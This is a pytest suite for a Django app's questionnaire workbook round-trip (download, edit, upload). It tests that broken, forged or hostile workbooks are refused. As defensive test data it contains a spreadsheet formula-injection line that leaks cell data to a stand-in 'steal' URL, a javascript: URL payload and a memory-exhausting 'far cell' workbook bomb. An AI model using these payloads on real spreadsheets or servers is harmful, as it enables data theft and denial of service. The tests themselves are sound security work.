import io

import pytest
from openpyxl import load_workbook

from mgi.assessments.answers import AnswerEdit, SourceFields, add_source, save_answer
from mgi.assessments.models import Answer, AuditRecord, Source
from tests.lib.hostile_workbooks import far_cell_bomb
from tests.workspace.conftest import PASSWORD


@pytest.fixture
def researcher_client(client, cast):
    client.login(username="researcher", password=PASSWORD)
    return client


@pytest.fixture
def with_source(cast, draft):
    return add_source(draft, SourceFields(title="Migration Act", kind="law"), cast["researcher"])


def download(client, assessment):
    response = client.get(f"/workspace/assessments/{assessment.pk}/questionnaire.xlsx")
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content))


def upload(client, assessment, book_or_bytes):
    if isinstance(book_or_bytes, bytes):
        raw = book_or_bytes
    else:
        buffer = io.BytesIO()
        book_or_bytes.save(buffer)
        raw = buffer.getvalue()
    file = io.BytesIO(raw)
    file.name = "questionnaire.xlsx"
    response = client.post(
        f"/workspace/assessments/{assessment.pk}/questionnaire/upload/",
        {"workbook": file},
        follow=True,
    )
    return response.content.decode()


def row_of(sheet, code):
    return next(row for row in sheet.iter_rows(min_row=2) if row[0].value == code)


def state(assessment) -> dict:
    return {
        "answers": sorted(
            Answer.objects.filter(assessment=assessment).values_list(
                "indicator__code", "option__code", "justification", "version"
            )
        ),
        "sources": sorted(
            Source.objects.filter(assessment=assessment).values_list("title", "url", "version")
        ),
        "links": sorted(Answer.sources.through.objects.values_list("answer_id", "source_id")),
        "audit": AuditRecord.objects.count(),
    }


def test_download_edit_and_upload_applies_exactly_the_edits(researcher_client, draft, with_source):
    book = download(researcher_client, draft)
    answers, sources = book["Answers"], book["Sources"]
    row = row_of(answers, "1.1.1")
    row[4].value, row[5].value = "complete", "Article 5 of the Health Law"
    row[6].value = f"S{with_source.pk}"
    row = row_of(answers, "2.1.1")
    row[4].value, row[5].value, row[6].value = "partial", "A new agency, not yet staffed", "N1"
    sources.append(["N1", "Decree 1350", "law", "", "https://example.org/decree", "2017-01-07"])
    sources["B2"].value = "Migration Act (as amended)"
    before = state(draft)

    page = upload(researcher_client, draft, book)

    assert "The workbook is applied: 2 answers, 1 new source, 1 source changed." in page
    after = state(draft)
    changed = [a for a in after["answers"] if a not in before["answers"]]
    assert [(code, option, version) for code, option, _, version in changed] == [
        ("1.1.1", "complete", 2),
        ("2.1.1", "partial", 2),
    ]
    decree = Source.objects.get(title="Decree 1350")
    assert str(decree.date) == "2017-01-07"
    assert list(draft.answers.get(indicator__code="2.1.1").sources.all()) == [decree]
    assert list(draft.answers.get(indicator__code="1.1.1").sources.all()) == [with_source]
    assert Source.objects.get(pk=with_source.pk).title == "Migration Act (as amended)"
    assert after["audit"] - before["audit"] == 4  # two answers, one new and one edited source


def test_an_unedited_workbook_changes_nothing(researcher_client, draft):
    book = download(researcher_client, draft)
    before = state(draft)

    page = upload(researcher_client, draft, book)

    assert "The workbook holds no change." in page
    assert state(draft) == before


def rename_sheet(book):
    book["Answers"].title = "Antworten"


def bad_option(book):
    row_of(book["Answers"], "1.2.1")[4].value = "mostly"


def bad_url(book):
    book["Sources"].append(["N1", "A law", "law", "", "javascript:alert(1)", ""])


def bad_date(book):
    book["Sources"].append(["N1", "A law", "law", "", "", "31/12/2020"])


def unknown_source(book):
    row_of(book["Answers"], "1.1.1")[6].value = "N9"


def another_assessment(book):
    about = book["About"]
    about["B1"].value = about["B1"].value + 1000


def forged_signature(book):
    book["About"]["B6"].value = "0" * 64


def dropped_column(book):
    book["Answers"].delete_cols(6)


BROKEN = {
    "wrong sheet": (rename_sheet, "no sheet 'Answers'"),
    "bad option": (bad_option, "sheet 'Answers', row"),
    "bad url": (
        bad_url,
        "sheet 'Sources', row 3, column 'url' (N1): Web address: “javascript:alert(1)” is not "
        "an http",
    ),
    "bad date": (bad_date, "sheet 'Sources', row 3, column 'date'"),
    "unknown source": (unknown_source, "column 'sources': no source N9"),
    "another assessment": (another_assessment, "belongs to another assessment"),
    "forged signature": (forged_signature, "the signature does not match"),
    "dropped column": (dropped_column, "sheet 'Answers', row 1: the columns must be"),
}


@pytest.mark.parametrize("case", BROKEN, ids=list(BROKEN))
def test_a_broken_workbook_is_refused_with_located_errors_and_nothing_changes(
    researcher_client, draft, with_source, case
):
    damage, expected = BROKEN[case]
    book = download(researcher_client, draft)
    row_of(book["Answers"], "6.1.1")[4].value = "complete"  # a valid edit, which must not land
    damage(book)
    before = state(draft)

    page = upload(researcher_client, draft, book)

    assert "The workbook was not applied" in page
    assert expected in page.replace("&#x27;", "'")
    assert state(draft) == before


def test_a_truncated_file_is_refused(researcher_client, draft):
    raw = researcher_client.get(f"/workspace/assessments/{draft.pk}/questionnaire.xlsx").content
    before = state(draft)

    page = upload(researcher_client, draft, raw[: len(raw) // 2])

    assert "damaged or truncated" in page
    assert state(draft) == before


def test_edits_to_rows_changed_since_download_are_reported_and_nothing_lands(
    researcher_client, cast, draft
):
    book = download(researcher_client, draft)
    row_of(book["Answers"], "1.1.1")[4].value = "absent"
    row_of(book["Answers"], "1.1.2")[4].value = "complete"
    answer = draft.answers.get(indicator__code="1.1.1")
    save_answer(answer, 1, AnswerEdit("complete", "Saved meanwhile", []), cast["coordinator"])
    before = state(draft)

    page = upload(researcher_client, draft, book)

    assert "someone else changed indicator 1.1.1" in page
    assert state(draft) == before


@pytest.mark.parametrize(
    "sheet_xml, cell, refusal",
    [
        ("xl/worksheets/sheet1.xml", "XFD1048576", "sheet 'Answers': a value lies beyond"),
        ("xl/worksheets/sheet2.xml", "CV100000", "sheet 'Sources': a value lies beyond"),
        ("xl/worksheets/sheet3.xml", "B100000", "sheet 'About': a value lies beyond row 5000"),
    ],
)
def test_a_workbook_with_a_cell_far_away_is_refused_without_exhausting_memory(
    researcher_client, draft, sheet_xml, cell, refusal
):
    import time
    import tracemalloc

    raw = researcher_client.get(f"/workspace/assessments/{draft.pk}/questionnaire.xlsx").content
    bomb = far_cell_bomb(raw, sheet_xml, cell)
    assert len(bomb) < 30_000
    before = state(draft)

    started = time.monotonic()
    page = upload(researcher_client, draft, bomb)
    seconds = time.monotonic() - started
    tracemalloc.start()
    try:
        upload(researcher_client, draft, bomb)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert seconds < 10  # a generous bound: walking the cells takes minutes
    assert peak < 100 * 1024 * 1024
    assert refusal in page.replace("&#x27;", "'")
    assert state(draft) == before


def sheet_xml(raw: bytes) -> str:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        return "".join(
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


def test_researcher_text_that_looks_like_a_formula_is_downloaded_as_text_and_uploads_unchanged(
    researcher_client, cast, draft, answer_of
):
    formula = '=HYPERLINK("http://example.org/steal?"&A1,"Details")'
    save_answer(answer_of("1.1.1"), 1, AnswerEdit("partial", formula, []), cast["researcher"])
    source = add_source(draft, SourceFields(title="=x", kind="law"), cast["researcher"])
    raw = researcher_client.get(f"/workspace/assessments/{draft.pk}/questionnaire.xlsx").content
    book = load_workbook(io.BytesIO(raw))
    before = state(draft)

    assert "<f>" not in sheet_xml(raw)
    assert row_of(book["Answers"], "1.1.1")[5].value == formula
    assert row_of(book["Answers"], "1.1.1")[5].quotePrefix
    assert row_of(book["Sources"], f"S{source.pk}")[1].value == "=x"
    page = upload(researcher_client, draft, book)

    assert "The workbook holds no change." in page
    assert state(draft) == before


def test_a_new_source_typed_as_a_formula_keeps_its_text(researcher_client, draft):
    book = download(researcher_client, draft)
    book["Sources"].append(["N1", "=x", "law", "", "", ""])  # a formula cell, as typed
    row_of(book["Answers"], "1.1.1")[6].value = "N1"

    page = upload(researcher_client, draft, book)

    assert "1 new source," in page
    assert Source.objects.get(assessment=draft).title == "=x"


def test_a_justification_with_control_characters_downloads_and_round_trips(
    researcher_client, cast, draft, answer_of
):
    text = "First page\x0cSecond page\x07, a _x000C_ written out, and\r\nWindows lines"
    save_answer(answer_of("1.1.1"), 1, AnswerEdit("partial", text, []), cast["researcher"])
    book = download(researcher_client, draft)
    row_of(book["Answers"], "1.1.2")[4].value = "complete"

    page = upload(researcher_client, draft, book)

    assert "The workbook is applied: 1 answer," in page
    assert answer_of("1.1.1").justification == text
    assert answer_of("1.1.1").version == 2


def test_a_new_source_numbered_after_the_ones_shown_is_added(researcher_client, draft, with_source):
    book = download(researcher_client, draft)
    next_ref = f"S{with_source.pk + 1}"
    assert next_ref in book["About"]["B7"].value  # the instructions name the next number
    book["Sources"].append([next_ref, "Decree 1350", "law", "", "", "2017-01-07"])
    row_of(book["Answers"], "1.1.1")[6].value = f"S{with_source.pk}; {next_ref}"

    page = upload(researcher_client, draft, book)

    assert "The workbook is applied: 1 answer, 1 new source, 0 sources changed." in page
    decree = Source.objects.get(title="Decree 1350")
    linked = set(draft.answers.get(indicator__code="1.1.1").sources.all())
    assert linked == {with_source, decree}


def test_a_new_source_given_the_ref_of_an_existing_one_is_refused_naming_a_free_ref(
    researcher_client, draft, with_source
):
    book = download(researcher_client, draft)
    book["Sources"].append([f"S{with_source.pk}", "Decree 1350", "law", "", "", ""])
    before = state(draft)

    page = upload(researcher_client, draft, book).replace("&#x27;", "'")

    assert f"column 'ref': S{with_source.pk} is already the source 'Migration Act'" in page
    assert f"such as S{with_source.pk + 1}" in page
    assert state(draft) == before


def test_a_workbook_resaved_with_other_line_ends_and_trailing_spaces_changes_nothing(
    researcher_client, cast, draft, answer_of, with_source
):
    text = "First line  \r\nSecond line\r\n"
    save_answer(answer_of("1.1.1"), 1, AnswerEdit("partial", text, []), cast["researcher"])
    book = download(researcher_client, draft)
    row_of(book["Answers"], "1.1.1")[5].value = "First line\nSecond line"
    row_of(book["Sources"], f"S{with_source.pk}")[1].value = "Migration Act   "
    before = state(draft)

    page = upload(researcher_client, draft, book)

    assert "The workbook holds no change." in page
    assert state(draft) == before


def test_an_edited_answer_keeps_its_stored_text_where_only_line_ends_differ(
    researcher_client, cast, draft, answer_of
):
    text = "First line\r\nSecond line"
    save_answer(answer_of("1.1.1"), 1, AnswerEdit("partial", text, []), cast["researcher"])
    book = download(researcher_client, draft)
    row = row_of(book["Answers"], "1.1.1")
    row[4].value, row[5].value = "complete", "First line\nSecond line "

    upload(researcher_client, draft, book)

    assert (answer_of("1.1.1").option.code, answer_of("1.1.1").justification) == (
        "complete",
        text,
    )


def test_upload_problems_are_listed_one_per_line_each_with_sheet_row_and_column(
    researcher_client, draft
):
    from bs4 import BeautifulSoup

    book = download(researcher_client, draft)
    row_of(book["Answers"], "1.2.1")[4].value = "mostly"
    book["Sources"].append(["N1", "A law", "law", "", "javascript:alert(1)", ""])
    book["Sources"].append(["N2", "A law", "law", "", "", "31/12/2020"])

    page = BeautifulSoup(upload(researcher_client, draft, book), "html.parser")

    problems = [item.get_text() for item in page.select("[role=alert] li")]
    assert len(problems) == 3
    for problem in problems:
        assert problem.startswith("sheet '") and ", row " in problem and ", column '" in problem


def upload_with_new_sources(client, draft, count: int, queries) -> str:
    book = download(client, draft)
    refs = [f"NEW{number}" for number in range(count)]
    for ref in refs:
        book["Sources"].append([ref, f"Decree {ref}", "law", "", "", ""])
    row_of(book["Answers"], "1.1.1")[6].value = "; ".join(refs)
    row_of(book["Answers"], "1.1.2")[4].value = "complete"
    with queries:
        return upload(client, draft, book)


def test_a_workbook_is_written_in_as_many_statements_whatever_its_number_of_rows(
    researcher_client, draft
):
    # Row by row, a large upload held the database's write lock for seconds; the write is a
    # fixed number of bulk statements instead, so its lock lasts as long for ten rows as for six
    # hundred (under the row limit, above SQLite's batch size).
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    small, large = CaptureQueriesContext(connection), CaptureQueriesContext(connection)
    assert "1 answer" not in upload_with_new_sources(researcher_client, draft, 10, small)
    before = state(draft)
    page = upload_with_new_sources(researcher_client, draft, 600, large)

    assert "The workbook is applied: 1 answer, 600 new sources, 0 sources changed." in page
    assert Source.objects.filter(assessment=draft, title__startswith="Decree NEW").count() == 610
    answer = draft.answers.get(indicator__code="1.1.1")
    assert answer.sources.count() == 600
    assert state(draft)["audit"] == before["audit"] + 601
    inserts = [q for q in large.captured_queries if q["sql"].startswith("INSERT")]
    small_inserts = [q for q in small.captured_queries if q["sql"].startswith("INSERT")]
    assert len(inserts) <= len(small_inserts) + 4
